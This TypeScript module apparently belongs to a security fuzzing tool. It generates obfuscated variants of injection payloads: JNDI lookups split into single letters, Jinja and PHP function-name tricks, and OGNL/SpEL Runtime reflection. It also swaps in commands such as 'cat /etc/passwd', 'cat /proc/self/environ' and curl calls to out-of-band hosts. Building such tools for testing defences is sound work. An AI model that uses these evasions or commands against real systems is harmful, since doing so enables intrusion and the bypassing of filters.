import { int, pick } from '../random.js'
import type { Random } from '../random.js'
import { ordinary } from './common.js'
import { fullwidthSigns, percentSigns, percentSome, percentU, unicodeEscapes } from './encodings.js'
import { eachMatch, mixedCase, mutators } from './step.js'
import type { Step } from './step.js'
import { letters, word, words } from './words.js'

/** An expression between the signs of a template language, or a tag of PHP, JSP, ERB or SSI: text around it is text. */
const DELIMITED = /^(?:\{\{|\{%|\$\{|#\{|%\{|<%|<\?|<#|\*\{|@\(|\$\{\{|<!--#|\[\[)/

/** `${jndi:…}` out of look-ups that give one letter each. */
const jndi: Step = (text, random) => {
  const letter = (char: string): string =>
    pick(random, [
      char,
      `\${lower:${char}}`,
      `\${::-${char}}`,
      `\${upper:${char}}`,
      `\${env:${letters(random, 2, 4)}:-${char}}`,
      `\${sys:${letters(random, 2, 5)}:-${char}}`,
      `\${date:'${char}'}`,
    ])
  return text.replace(
    /\$\{jndi:(ldaps?|rmi|dns|iiop|corba|nis|http)(?=:)/i,
    (_all, scheme: string) => `\${${[...'jndi'].map(letter).join('')}:${[...scheme].map(letter).join('')}`,
  )
}

const products: Step = (text, random) =>
  text.replace(
    /(?<=\{\{?|\$\{|#\{|%\{|<%=\s?)\s*\d+\s*([*+-])\s*'?\d+'?/g,
    (_all, sign: string) => `${int(random, 2, 9999)}${sign}${int(random, 2, 9999)}`,
  )

const innerBlanks: Step = (text, random) => {
  const blank = pick(random, [' ', '', '  ', '\t', '\n'])
  return text
    .replace(/(\{\{|\{%)\s*(?=\S)/g, (_all, open: string) => open + blank)
    .replace(/(?<=\S)\s*(\}\}|%\})/g, (_all, close: string) => blank + close)
}

const COMMANDS = /(?<=['"])(?:id|whoami|ls|cat \/etc\/passwd|calc(?:\.exe)?|uname -a)(?=['"])/g
const otherCommand: Step = (text, random) =>
  text.replace(COMMANDS, () =>
    pick(random, [
      'id',
      'whoami',
      'ls -la',
      'cat /etc/passwd',
      'uname -a',
      'hostname',
      'env',
      `curl ${letters(random, 4, 9)}.oast.fun`,
      'ifconfig',
      'calc.exe',
      `touch /tmp/${letters(random, 3, 6)}`,
      `ping -c ${int(random, 1, 9)} ${letters(random, 4, 9)}.oast.me`,
      'cat /proc/self/environ',
    ]),
  )

/** Attributes of Python objects by name: Jinja reads both. */
const attributes: Step = (text, random) =>
  /\{\{|\{%/.test(text)
    ? eachMatch(text, /\.(__[a-z]{3,12}__)(?=[.[(])/g, random, 0.8, (access) => {
        const name = access.slice(1)
        const cut = int(random, 1, name.length - 1)
        const hex = name.replace(/_/g, '\\x5f')
        return pick(random, [
          `['${name}']`,
          `['${name.slice(0, cut)}'+'${name.slice(cut)}']`,
          `['${name.slice(0, cut)}'~'${name.slice(cut)}']`,
          `|attr('${name}')`,
          `["${hex}"]`,
          `|attr("${hex}")`,
          `['${name.slice(0, cut)}''${name.slice(cut)}']`,
        ])
      })
    : text

/** Strings out of pieces: `.` in PHP, `+` elsewhere. */
const builtString: Step = (text, random) => {
  const php = /<\?|\$_|\bphp|system\(/i.test(text)
  const sign = php ? '.' : '+'
  return eachMatch(text, /(?<=\(|\[|,\s?)(['"])[\w /.-]{2,40}\1(?=[\]),])/g, random, 0.7, (literal) => {
    const [quote, value] = [literal[0]!, literal.slice(1, -1)]
    const cut = int(random, 1, value.length - 1)
    const escaped = [...Buffer.from(value)].map((byte) => `\\x${byte.toString(16)}`).join('')
    return pick(random, [
      `${quote}${value.slice(0, cut)}${quote}${sign}${quote}${value.slice(cut)}${quote}`,
      `"${escaped}"`,
    ])
  })
}

const PHP_CALLS = ['system', 'passthru', 'shell_exec', 'exec', 'popen', 'proc_open', 'pcntl_exec'] as const
const PHP_CALL =
  /\b(?:system|passthru|shell_exec|exec|popen|eval|assert|phpinfo|base64_decode|file_get_contents|call_user_func)(?=\s*\()/g
const isPhp = (text: string): boolean =>
  /<\?|\$_(?:GET|POST|REQUEST|COOKIE|SERVER)|phpinfo|base64_decode|passthru|shell_exec/i.test(text)

/** PHP knows no case in the names of functions. */
const phpCase: Step = (text, random) =>
  isPhp(text) ? eachMatch(text, PHP_CALL, random, 0.9, (name) => mixedCase(name, random)) : text
const phpCalls: Step = (text, random) =>
  isPhp(text)
    ? text.replace(/\b(?:system|passthru|shell_exec)(?=\s*\()/gi, () => pick(random, PHP_CALLS))
    : text
/** A function by the name in a string. */
const phpNames: Step = (text, random) =>
  isPhp(text)
    ? text.replace(/\b(system|passthru|shell_exec|phpinfo)(?=\s*\()/gi, (name: string) => {
        const cut = int(random, 1, name.length - 1)
        return pick(random, [
          `('${name.slice(0, cut)}'.'${name.slice(cut)}')`,
          `('${name}')`,
          `(strrev('${[...name].reverse().join('')}'))`,
          `(base64_decode('${Buffer.from(name).toString('base64')}'))`,
          `(chr(${name.charCodeAt(0)}).'${name.slice(1)}')`,
          `\\${name}`,
        ])
      })
    : text
const comments: Step = (text, random) =>
  isPhp(text)
    ? text.replace(PHP_CALL, (name: string) => `${name}/*${words(random, 0, 4)}*/`)
    : text.replace(/\{\{(?!#)/, () => `{#${words(random, 1, 4)}#}{{`)
const openTags: Step = (text, random) =>
  text.replace(/<\?php\s|<\?=\s?/i, (tag) =>
    /php/i.test(tag) ? pick(random, ['<?php ', '<?PHP ', '<?pHp\n', '<?php\t', '<? ']) : '<?=',
  )

/** Java classes by reflection, in the ways that OGNL, SpEL, MVEL and EL have. */
const runtime: Step = (text, random) =>
  text
    .replace(/T\(java\.lang\.Runtime\)/g, () =>
      pick(random, [
        'T(java.lang.Runtime)',
        "''.class.forName('java.lang.Runtime')",
        'T (java.lang.Runtime)',
        "T(Class).forName('java.lang.Runtime')",
        'T(java.lang.Runtime)',
      ]),
    )
    .replace(/@java\.lang\.Runtime@getRuntime\(\)/g, () =>
      pick(random, [
        '@java.lang.Runtime@getRuntime()',
        '(@java.lang.Runtime@getRuntime())',
        "@java.lang.Class@forName('java.lang.Runtime').getRuntime()",
      ]),
    )

/** Signs of OGNL as escapes, which it reads everywhere. */
const ognlEscapes: Step = (text, random) =>
  /%\{|#context|@java|#_member|#attr/.test(text)
    ? eachMatch(text, /[#@=.]/g, random, 0.7, (sign) => `\\u00${sign.charCodeAt(0).toString(16)}`)
    : text

function neutral(random: Random): string {
  return pick(random, [
    `${int(random, 1, 9)}*${int(random, 1, 9)}`,
    `'${word(random)}'`,
    `"${words(random, 1, 3)}"`,
    String(int(random, 1, 999)),
  ])
}
/** A harmless expression before the other. */
const expressionBefore: Step = (text, random) => {
  const [, open, close] = /^(\{\{|\$\{|#\{|%\{|<%=)[\s\S]*?(\}\}|\}|%>)$/.exec(text) ?? []
  return open === undefined || close === undefined ? text : `${open}${neutral(random)}${close}${text}`
}

const afterValue: Step = (text, random) =>
  DELIMITED.test(text) ? `${ordinary(random)}${pick(random, ['', ' '])}${text}` : text
const inProse: Step = (text, random) =>
  DELIMITED.test(text) ? `${words(random, 5, 50)} ${text} ${words(random, 3, 30)}` : text

export const CODE = mutators({
  case: { php: phpCase },
  comments: { comments },
  spaces: { inner: innerBlanks },
  encodings: { percentSigns, percentSome, percentU, unicodeEscapes },
  escapes: { ognl: ognlEscapes },
  strings: { jndi, attributes, builtString, phpNames },
  alternatives: { products, otherCommand, phpCalls, openTags, runtime, expressionBefore },
  'look-alikes': { fullwidthSigns },
  surroundings: { afterValue },
  padding: { inProse },
})
